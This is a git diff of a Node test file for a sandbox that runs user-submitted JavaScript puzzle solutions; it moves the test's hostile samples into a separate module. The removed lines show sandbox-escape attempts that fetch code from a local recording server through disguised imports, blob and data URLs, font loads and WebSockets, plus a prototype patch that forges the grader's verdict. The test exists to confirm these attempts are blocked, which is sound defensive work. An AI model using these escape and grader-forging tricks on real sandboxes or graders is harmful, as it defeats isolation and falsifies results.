@@ -9,27 +9,12 @@
 // message of 2^28 characters leaves the page alive with a short sentence.
 import { test, after } from 'node:test';
 import assert from 'node:assert/strict';
-import http from 'node:http';
-import zlib from 'node:zlib';
 import { openPage, revisit, assertNoErrors, closeHarness } from './helpers.mjs';
+import { ESCAPES, FORGED_SIZE, leftovers, pack, recordingServer } from './hostile.mjs';
 
 after(closeHarness);
 
-const pack = (program) => zlib.deflateRawSync(Buffer.from(program, 'utf8')).toString('base64url');
 const ENDED = ['done', 'error', 'stopped'];
-
-/** A server on 127.0.0.1 (another port: another origin) that records every request. */
-async function recordingServer() {
-  const requests = [];
-  const srv = http.createServer((req, res) => {
-    requests.push(`${req.method} ${req.url}`);
-    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
-    res.end('self.escaped = true;');
-  });
-  srv.on('upgrade', (req, socket) => { requests.push(`UPGRADE ${req.url}`); socket.destroy(); });
-  await new Promise((resolve) => srv.listen(0, '127.0.0.1', resolve));
-  return { base: `http://127.0.0.1:${srv.address().port}`, requests, close: () => new Promise((resolve) => srv.close(resolve)) };
-}
 
 async function press(page, part) {
   await page.click(`#code [data-part=${part}]`);
@@ -37,43 +22,6 @@ async function press(page, part) {
   return page.getAttribute('#code', 'data-state');
 }
 const message = (page) => page.textContent('#code [data-part=message]');
-
-/** What any storage of the page's origin holds under the names the programs use. */
-const leftovers = (page) => page.evaluate(async () => {
-  const found = [];
-  for (const db of await indexedDB.databases()) if (/escape/.test(db.name ?? '')) found.push(`indexedDB ${db.name}`);
-  for (const key of await caches.keys()) if (/escape/.test(key)) found.push(`cache ${key}`);
-  for (let i = 0; i < localStorage.length; i++) if (/escape/.test(localStorage.key(i) ?? '')) found.push(`localStorage ${localStorage.key(i)}`);
-  if (navigator.storageBuckets) for (const b of await navigator.storageBuckets.keys()) found.push(`bucket ${b}`);
-  const root = await navigator.storage.getDirectory();
-  for await (const name of root.keys()) found.push(`file ${name}`);
-  return found;
-});
-
-const ESCAPES = (at) => `function solve(n, board) {
-  const at = ${JSON.stringify(at)};
-  const tries = [
-    () => import
-      (at + '/import-newline.js'),
-    () => import /* a comment */ (at + '/import-comment.js'),
-    () => Function('u', 'return import(u)')(at + '/function.js'),
-    () => new FontFace('f', 'url(' + at + '/font)').load(),
-    () => { const f = new FontFace('g', 'url(' + at + '/fonts)'); self.fonts.add(f); return self.fonts.load('1em g'); },
-    () => new WebSocketStream(at.replace('http', 'ws') + '/wss').opened,
-    () => import(URL.createObjectURL(new Blob(['import(' + JSON.stringify(at + '/from-blob.js') + ')'], { type: 'text/javascript' }))),
-    () => import('data:text/javascript,import(' + JSON.stringify(at + '/from-data.js') + ')'),
-    () => navigator.storageBuckets.open('escape-bucket').then((b) => b.indexedDB.open('escape-db')),
-    () => navigator.storage.getDirectory().then((d) => d.getFileHandle('escape-file', { create: true })),
-  ];
-  for (const attempt of tries) {
-    try {
-      const got = attempt();
-      if (got && typeof got.catch === 'function') got.catch(() => {});
-    } catch {}
-  }
-  board.place(0, 0);
-}
-`;
 
 test('hostile JavaScript: no request leaves, the refusals are named, no storage is left, no verdict is forged, a huge error is a short sentence', async () => {
   const rec = await recordingServer();
@@ -94,11 +42,7 @@ test('hostile JavaScript: no request leaves, the refusals are named, no storage 
   assert.match(await message(page), /Content Security Policy|code built from text/);
 
   // %TypedArray%.prototype.slice patched to make every board N = 2: Check is not fooled.
-  await revisit(page, `/?mode=code&lang=js&n=3&src=${pack(`const TA = Object.getPrototypeOf(Int32Array.prototype);
-const slice = TA.slice;
-TA.slice = function (...a) { const r = slice.apply(this, a); for (let i = 0; i < r.length; i += 4) if (r[i] === 6) r[i + 2] = 2; return r; };
-function solve(n, board) {}
-`)}`);
+  await revisit(page, `/?mode=code&lang=js&n=3&src=${pack(FORGED_SIZE)}`);
   await page.waitForSelector('#code .cm-editor');
   await press(page, 'grade');
   await page.waitForSelector('#code[data-verdict]');
